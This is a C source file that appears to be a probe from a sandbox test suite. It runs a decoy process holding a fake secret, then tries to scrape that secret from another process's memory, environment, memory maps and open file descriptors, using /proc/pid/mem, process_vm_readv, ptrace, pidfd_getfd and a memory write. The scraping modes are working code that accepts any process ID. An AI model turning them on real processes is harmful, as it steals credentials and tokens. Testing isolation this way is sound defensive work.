/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * memory - looks into another process: `memory MODE PID|@COMM [ADDRESS:PORT]`, and the one looked
 * into: `memory hold`.
 *
 * `memory hold SECRET [COMM]` keeps SECRET in its memory, its environment and an open file, under
 * the name COMM, allows everybody to trace it (so that the attack works where Yama is set), prints
 * its pid and waits for SIGTERM. The other modes find "isSecret" in it and say how many bytes they
 * got, as a thief of a CI runner's secrets does.
 * @COMM finds the process by its name under /proc. `memory list` prints the modes.
 */
#define _GNU_SOURCE
#include "truth.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

#define NEEDLE "\"isSecret\":true"

static char data[1 << 20];
static char loot[256];

/* Copies the bytes around the needle into `loot`. Returns their number, 0 if it is not found. */
static ssize_t mine(ssize_t n)
{
	char *at = n > 0 ? memmem(data, n, NEEDLE, strlen(NEEDLE)) : NULL;
	size_t before;

	if (!at)
		return 0;
	before = at - data < 128 ? at - data : 128;
	memcpy(loot, at - before, before + strlen(NEEDLE));
	return before + strlen(NEEDLE);
}

/* Calls `get` for every writable mapping until the needle is found. */
static ssize_t walk_maps(pid_t pid, ssize_t (*get)(pid_t pid, unsigned long from, size_t size))
{
	unsigned long from, end;
	char path[64], line[512], protection[8];
	ssize_t n, error = 0;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return -errno;
	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx %7s", &from, &end, protection) != 3 ||
		    strncmp(protection, "rw", 2))
			continue;
		n = get(pid, from, end - from < sizeof(data) ? end - from : sizeof(data));
		if (n < 0)
			error = n;
		n = mine(n);
		if (n > 0)
			return n;
	}
	return error ? error : -ENODATA;
}

static ssize_t get_by_mem(pid_t pid, unsigned long from, size_t size)
{
	static int fd = -1;
	char path[64];
	ssize_t n;

	if (fd < 0) {
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			return -errno;
	}
	n = pread(fd, data, size, from);
	return n < 0 ? -errno : n;
}
static ssize_t by_procmem(pid_t pid)
{
	return walk_maps(pid, get_by_mem);
}

static ssize_t get_by_readv(pid_t pid, unsigned long from, size_t size)
{
	struct iovec local = { data, size }, remote = { (void *)from, size };
	ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);

	return n < 0 ? -errno : n;
}
static ssize_t by_readv(pid_t pid)
{
	return walk_maps(pid, get_by_readv);
}

static ssize_t get_by_peek(pid_t pid, unsigned long from, size_t size)
{
	for (size_t i = 0; i + sizeof(long) <= size; i += sizeof(long)) {
		long word;

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, pid, from + i, NULL);
		if (errno)
			return -errno;
		memcpy(data + i, &word, sizeof(word));
	}
	return size;
}

static ssize_t by_attach(pid_t pid)
{
	ssize_t n;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return -errno;
	waitpid(pid, NULL, __WALL);
	n = walk_maps(pid, get_by_peek);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return n;
}

static ssize_t by_seize(pid_t pid)
{
	ssize_t n;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return -errno;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
		return -errno;
	waitpid(pid, NULL, __WALL);
	n = walk_maps(pid, get_by_peek);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return n;
}

static ssize_t read_proc(pid_t pid, const char *name)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -errno;
	n = read(fd, data, sizeof(data));
	return n < 0 ? -errno : n;
}

static ssize_t by_environ(pid_t pid)
{
	ssize_t n = read_proc(pid, "environ");

	return n < 0 ? n : mine(n) ?: -ENODATA;
}

/* The memory layout of the process is what a thief needs first. */
static ssize_t by_maps(pid_t pid)
{
	ssize_t n = read_proc(pid, "maps");

	if (n > 0)
		memcpy(loot, data, sizeof(loot));
	return n > 0 ? (ssize_t)sizeof(loot) : n < 0 ? n : -ENODATA;
}

/* Its open file, which has been deleted. */
static ssize_t by_getfd(pid_t pid)
{
	int pidfd = syscall(__NR_pidfd_open, pid, 0), fd;
	ssize_t n;

	if (pidfd < 0)
		return -errno;
	fd = syscall(__NR_pidfd_getfd, pidfd, 9, 0);
	if (fd < 0)
		return -errno;
	n = pread(fd, data, sizeof(data), 0);
	return n < 0 ? -errno : mine(n) ?: -ENODATA;
}

static ssize_t by_procfd(pid_t pid)
{
	ssize_t n = read_proc(pid, "fd/9");

	return n < 0 ? n : mine(n) ?: -ENODATA;
}

/* A process that can be written to can be made to run our code. */
static ssize_t by_writev(pid_t pid)
{
	unsigned long from, end;
	char path[64], line[512], protection[8];
	struct iovec local = { data, 1 }, remote = { NULL, 1 };
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return -errno;
	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx %7s", &from, &end, protection) != 3 ||
		    strncmp(protection, "rw", 2))
			continue;
		remote.iov_base = (void *)from;
		if (process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0)
			return -errno;
		return process_vm_writev(pid, &local, 1, &remote, 1, 0) < 0
			       ? -errno
			       : 1; /* the same byte again */
	}
	return -ENODATA;
}

static const struct {
	const char *name;
	ssize_t (*look)(pid_t pid);
} modes[] = {
	{ "procmem", by_procmem }, { "readv", by_readv },     { "attach", by_attach },
	{ "seize", by_seize },	   { "environ", by_environ }, { "maps", by_maps },
	{ "getfd", by_getfd },	   { "procfd", by_procfd },   { "writev", by_writev },
};

static void hold(const char *secret, const char *comm)
{
	char *copy = NULL, environment[512];
	sigset_t set;
	int fd, number;

	if (asprintf(&copy, "{\"LAB\":{\"value\":\"%s\",%s}}", secret, NEEDLE) < 0)
		exit(TRUTH_USAGE);
	if (!getenv("LAB_HELD")) {
		char *again[] = { "memory", "hold", (char *)secret, (char *)comm, NULL };

		snprintf(environment, sizeof(environment), "%s", copy);
		setenv("LAB_HELD", environment, 1);
		execv("/proc/self/exe", again);
	}
	prctl(PR_SET_NAME, comm);
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
	prctl(PR_SET_DUMPABLE, 1);
	fd = memfd_create("held", 0);
	if (fd < 0 || dup2(fd, 9) < 0 || write(9, copy, strlen(copy)) < 0)
		exit(TRUTH_USAGE);
	printf("%d\n", getpid());
	fflush(stdout);
	sigemptyset(&set);
	sigaddset(&set, SIGTERM);
	sigaddset(&set, SIGINT);
	sigprocmask(SIG_BLOCK, &set, NULL);
	sigwait(&set, &number);
	exit(copy[0] == '{' ? 0 : 1);
}

static pid_t find(const char *name)
{
	char path[300], comm[32];
	struct dirent *e;
	DIR *d;

	if (name[0] != '@')
		return atoi(name);
	d = opendir("/proc");
	while (d && (e = readdir(d))) {
		FILE *f;

		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
		f = fopen(path, "re");
		if (!f)
			continue;
		if (fgets(comm, sizeof(comm), f) && !strncmp(comm, name + 1, strlen(name + 1))) {
			fclose(f);
			return atoi(e->d_name);
		}
		fclose(f);
	}
	return -1;
}

int main(int argc, char **argv)
{
	pid_t pid;

	if (argc == 2 && !strcmp(argv[1], "list")) {
		for (size_t i = 0; i < ARRAY_SIZE(modes); i++)
			puts(modes[i].name);
		return 0;
	}
	if (argc < 3)
		usage("memory MODE PID|@COMM [ADDRESS:PORT]");
	if (!strcmp(argv[1], "hold"))
		hold(argv[2], argc > 3 ? argv[3] : "holder");
	pid = find(argv[2]);
	if (pid <= 0)
		refused("find the process", ESRCH);
	for (size_t i = 0; i < ARRAY_SIZE(modes); i++) {
		if (!strcmp(argv[1], modes[i].name))
			conclude(argv[1], argv[3], loot, modes[i].look(pid));
	}
	usage("memory MODE PID|@COMM [ADDRESS:PORT]; see: memory list");
}
